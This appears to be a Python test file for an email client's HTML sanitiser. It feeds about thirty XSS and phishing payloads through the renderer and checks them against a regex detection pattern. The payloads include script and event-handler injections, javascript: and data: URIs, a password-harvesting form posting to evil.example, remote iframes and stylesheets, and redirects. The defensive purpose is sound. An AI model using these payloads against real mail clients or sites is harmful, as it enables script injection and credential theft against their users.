"""Scripts, forms and whatever else would act in the reader's name: none of it reaches the screen."""

from __future__ import annotations

import re

import pytest

from tests.hostile.measure import measure
from tests.hostile.whole import HTML_HEAD, shown

ATTACKS = (
	"<script>alert(1)</script>",
	"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
	"<img src=x onerror=alert(1)>",
	"<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
	"<math><mi xlink:href='data:text/html,<script>alert(1)</script>'>x</mi></math>",
	"<a href='javascript:alert(1)'>x</a>",
	"<a href='java\tscript:alert(1)'>x</a>",
	"<a href='&#106;avascript:alert(1)'>x</a>",
	"<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
	"<a href='vbscript:x'>x</a>",
	"<a href='//evil.example'>x</a>",
	"<a href='file:///etc/passwd'>x</a>",
	"<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
	"<iframe src='https://evil.example'></iframe>",
	"<iframe srcdoc='<script>alert(1)</script>'></iframe>",
	"<object data='https://evil.example/x.swf'></object>",
	"<embed src='https://evil.example/x.swf'>",
	"<base href='https://evil.example/'>",
	"<meta http-equiv=refresh content='0;url=https://evil.example'>",
	"<link rel=stylesheet href='https://evil.example/x.css'>",
	"<style>@import url(https://evil.example/x.css); * {display:none}</style>",
	"<p style='background:url(https://evil.example/x)'>x</p>",
	"<p style='width:expression(alert(1))'>x</p>",
	"<p style='position:fixed;top:0;left:0;width:100%;height:100%'>Your session has ended</p>",
	"<p id=navbar class='modal btn-primary'>x</p>",
	"<video src='https://evil.example/x' autoplay></video>",
	"<template><script>alert(1)</script></template>",
	"<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
	"<!--[if mso]><script>alert(1)</script><![endif]-->",
	"<xss contenteditable onfocus=alert(1) autofocus>x</xss>",
	"<details open ontoggle=alert(1)>x</details>",
	"<a class=mail-remote-image data-src='javascript:alert(1)'>x</a>",
	"<img src='data:image/svg+xml;base64,PHN2Zz4='>",
)
NEVER = re.compile(
	r"<(?!/?(?:p|div|span|a|br|hr|small|details|blockquote)[\s>])"
	r"|<[^>]*\s(?:on\w+|id|srcdoc|action|contenteditable|autofocus)\s*="
	r"|<[^>]*(?:javascript|vbscript|data|file):"
	r"|<[^>]*\ssrc=|<[^>]*(?:position|expression|url\()|<[^>]*data-src=\"(?!https?:)|href=\"//",
	re.IGNORECASE,
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_it_is_taken_out(attack: str) -> None:
	mail = shown(HTML_HEAD + f"<p>Hello</p>{attack}<p>Bye</p>".encode())
	assert not NEVER.search(mail.html), mail.html
	assert "Hello" in mail.text
	assert "Bye" in mail.text


def all_of_them_often() -> bytes:
	return HTML_HEAD + ("".join(ATTACKS) * 60).encode()


def length_of_html(octets: bytes) -> int:
	mail = shown(octets)
	assert not NEVER.search(mail.html)
	return len(mail.html)


def test_many_at_once_are_taken_out_in_time() -> None:
	measure(length_of_html, all_of_them_often).assert_harmless()
